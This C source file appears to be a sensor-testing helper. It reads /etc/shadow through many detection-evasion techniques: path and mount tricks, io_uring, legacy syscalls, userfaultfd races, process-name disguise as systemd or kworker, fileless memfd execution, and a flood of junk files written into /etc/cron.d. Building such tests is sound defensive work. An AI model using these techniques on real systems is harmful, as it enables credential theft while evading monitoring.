// SPDX-License-Identifier: Apache-2.0
/* Reads /etc/shadow in ways that have deceived sensors (runtime field notes, section 5); test_evasions.py puts it into a container.
 *
 * evader WAY: see `ways` below.  Exits 0 when bytes of the file were read, 77 when this kernel or container refuses the way. */
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/mount.h>
#include <linux/openat2.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define FILE_ "/etc/shadow"
#define REFUSED 77

static int drink(int fd)
{
    char c;
    return fd >= 0 && read(fd, &c, 1) == 1 ? 0 : errno == EPERM || errno == ENOSYS || errno == EACCES ? REFUSED : 1;
}

static int by_name(void)
{
    return drink(open(FILE_, O_RDONLY));
}

static int by_folder(void)
{
    int dir = open("/etc", O_PATH | O_DIRECTORY);
    return drink(openat(dir, "../etc/./shadow", O_RDONLY));
}

/* openat2 with a root of its own: the path is not the file's. */
static int by_resolve(void)
{
    struct open_how how = {.flags = O_RDONLY, .resolve = RESOLVE_IN_ROOT | RESOLVE_NO_MAGICLINKS};
    return drink((int)syscall(SYS_openat2, open("/etc", O_PATH | O_DIRECTORY), "/../shadow", &how, sizeof how));
}

static int by_proc_fd(void)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", open(FILE_, O_PATH));
    return drink(open(path, O_RDONLY));
}

static int by_root_link(void)
{
    return drink(open("/proc/self/root/etc/shadow", O_RDONLY));
}

static int by_hard_link(void)
{
    unlink("/tmp/hard");
    return link(FILE_, "/tmp/hard") ? REFUSED : drink(open("/tmp/hard", O_RDONLY));
}

static int by_symlinks(void)
{
    (void)!symlink("/etc", "/tmp/one");
    (void)!symlink("/tmp/one/shadow", "/tmp/two");
    return drink(open("/tmp/two", O_RDONLY));
}

static int by_mapping(void)
{
    int fd = open(FILE_, O_RDONLY);
    volatile char *p = mmap(NULL, 1, PROT_READ, MAP_PRIVATE, fd, 0);
    return p == MAP_FAILED ? 1 : *p == 0;
}

static int by_bind_mount(void)
{
    mkdir("/tmp/bind", 0700);
    if (unshare(CLONE_NEWNS) || mount("/etc", "/tmp/bind", NULL, MS_BIND, NULL))
        return REFUSED;
    return drink(open("/tmp/bind/shadow", O_RDONLY));
}

static int by_new_mount_api(void)
{
    mkdir("/tmp/tree", 0700);
    int tree = unshare(CLONE_NEWNS) ? -1 : (int)syscall(SYS_open_tree, AT_FDCWD, "/etc", OPEN_TREE_CLONE);
    if (tree < 0 || syscall(SYS_move_mount, tree, "", AT_FDCWD, "/tmp/tree", MOVE_MOUNT_F_EMPTY_PATH))
        return REFUSED;
    return drink(open("/tmp/tree/shadow", O_RDONLY));
}

static int by_chroot(void)
{
    return chroot("/etc") ? REFUSED : drink(open("/shadow", O_RDONLY));
}

/* The 32-bit interface, whose numbers differ: openat is 295. */
static int by_32_bit_call(void)
{
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    long fd = -ENOSYS;
    if (low == MAP_FAILED)
        return REFUSED;
    strcpy(low, FILE_);
    __asm__ volatile("int $0x80" : "=a"(fd) : "a"(295), "b"(AT_FDCWD), "c"(low), "d"(O_RDONLY), "S"(0) : "memory", "r8", "r9", "r10", "r11");
    return fd == -ENOSYS ? REFUSED : drink((int)fd);
}

static int by_io_uring(void)
{
    struct io_uring_params p = {.flags = 0};
    int ring = (int)syscall(SYS_io_uring_setup, 2, &p);
    if (ring < 0)
        return REFUSED;
    char *sq = mmap(NULL, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqe = mmap(NULL, p.sq_entries * sizeof *sqe, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqe == MAP_FAILED)
        return 1;
    memset(sqe, 0, sizeof *sqe);
    sqe->opcode = IORING_OP_OPENAT;
    sqe->fd = AT_FDCWD;
    sqe->addr = (unsigned long)FILE_;
    sqe->open_flags = O_RDONLY;
    ((unsigned *)(void *)(sq + p.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(void *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1)
        return 1;
    return drink(((struct io_uring_cqe *)(void *)(cq + p.cq_off.cqes))[0].res);
}

/* A second thread changes the name while the kernel reads it. */
static char flipping[32] = "/tmp/harmless";
static volatile int done;
static void *flip(void *arg)
{
    while (!done) {
        strcpy(flipping, FILE_);
        __asm__ volatile("" ::: "memory");
        strcpy(flipping, "/tmp/harmless");
        __asm__ volatile("" ::: "memory");
    }
    return arg;
}
static int by_flipping_name(void)
{
    pthread_t t;
    struct stat want, got;
    close(open("/tmp/harmless", O_CREAT | O_WRONLY, 0600));
    if (stat(FILE_, &want) || pthread_create(&t, NULL, flip, NULL))
        return 1;
    for (long i = 0; i < 5000000 && !done; i++) {
        int fd = open(flipping, O_RDONLY);
        if (fd >= 0 && fstat(fd, &got) == 0 && got.st_ino == want.st_ino)
            done = 1 + drink(fd);
        if (fd >= 0)
            close(fd);
    }
    return done == 1 ? 0 : done ? 1 : REFUSED;
}

/* The name lies in a page that is not there: whoever reads it waits until another thread fills it in, and that thread writes what it likes. */
static int faults;
static char *late;
static volatile int served;
static void *serve_faults(void *arg)
{
    static char page[4096] __attribute__((aligned(4096)));
    struct uffd_msg m;
    strcpy(page, FILE_);
    while (read(faults, &m, sizeof m) == sizeof m) {
        struct uffdio_copy copy = {.dst = (unsigned long)late, .src = (unsigned long)page, .len = 4096};
        ioctl(faults, UFFDIO_COPY, &copy);
        strcpy(late, "/tmp/harmless");
        served++;
    }
    return arg;
}
static int by_late_name(void)
{
    pthread_t t;
    struct uffdio_api api = {.api = UFFD_API};
    faults = (int)syscall(SYS_userfaultfd, 0);
    late = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_register r = {.range = {.start = (unsigned long)late, .len = 4096}, .mode = UFFDIO_REGISTER_MODE_MISSING};
    if (faults < 0 || ioctl(faults, UFFDIO_API, &api) || ioctl(faults, UFFDIO_REGISTER, &r) || pthread_create(&t, NULL, serve_faults, NULL))
        return REFUSED;
    for (int i = 1; i < 200000; i++) { /* until the kernel is quicker than the other thread */
        int fd = open(late, O_RDONLY);
        while (served < i)
            sched_yield();
        if (fd >= 0)
            return drink(fd);
        madvise(late, 4096, MADV_DONTNEED);
    }
    return 1;
}

/* Thousands of events of less weight, then the act. */
static int after_a_flood(void)
{
    for (int i = 0; i < 20000; i++) {
        char name[40];
        snprintf(name, sizeof name, "/etc/cron.d/f%d", i % 50);
        int fd = open(name, O_CREAT | O_WRONLY | O_TRUNC, 0600);
        (void)!write(fd, "x", 1);
        close(fd);
    }
    return by_name();
}

/* The name of a harmless program. */
static int in_disguise(void)
{
    FILE *f = fopen("/proc/self/comm", "w");
    if (f) {
        fputs("systemd", f);
        fclose(f);
    }
    return by_name();
}

static int from_memory(char *self)
{
    int fd = (int)syscall(SYS_memfd_create, "x", 0), from = open(self, O_RDONLY);
    char buf[65536], *argv[] = {"kworker/0:1", "name", NULL}, *envp[] = {NULL};
    for (ssize_t n; (n = read(from, buf, sizeof buf)) > 0;)
        (void)!write(fd, buf, (size_t)n);
    syscall(SYS_execveat, fd, "", argv, envp, AT_EMPTY_PATH);
    return REFUSED;
}

/* From a mount of the file alone that hangs nowhere, as runc starts itself: no path leads there. */
static int from_detached_mount(char *self)
{
    char *argv[] = {self, "name", NULL}, *envp[] = {NULL};
    int file = unshare(CLONE_NEWNS) ? -1 : (int)syscall(SYS_open_tree, AT_FDCWD, self, OPEN_TREE_CLONE);
    if (file >= 0)
        syscall(SYS_execveat, file, "", argv, envp, AT_EMPTY_PATH);
    return REFUSED;
}

static const struct {
    const char *name;
    int (*fn)(void);
} ways[] = {{"name", by_name}, {"folder", by_folder}, {"resolve", by_resolve}, {"late-name", by_late_name}, {"proc-fd", by_proc_fd}, {"root-link", by_root_link}, {"hard-link", by_hard_link}, {"symlinks", by_symlinks},
        {"mapping", by_mapping}, {"bind-mount", by_bind_mount}, {"new-mount-api", by_new_mount_api}, {"chroot", by_chroot}, {"32-bit-call", by_32_bit_call}, {"io_uring", by_io_uring}, {"flipping-name", by_flipping_name}, {"flood", after_a_flood}, {"disguise", in_disguise}};

int main(int argc, char **argv)
{
    if (argc == 2 && !strcmp(argv[1], "memory"))
        return from_memory(argv[0]);
    if (argc == 2 && !strcmp(argv[1], "detached-mount"))
        return from_detached_mount(argv[0]);
    for (size_t i = 0; argc == 2 && i < sizeof ways / sizeof *ways; i++)
        if (!strcmp(argv[1], ways[i].name))
            return ways[i].fn();
    return 64;
}
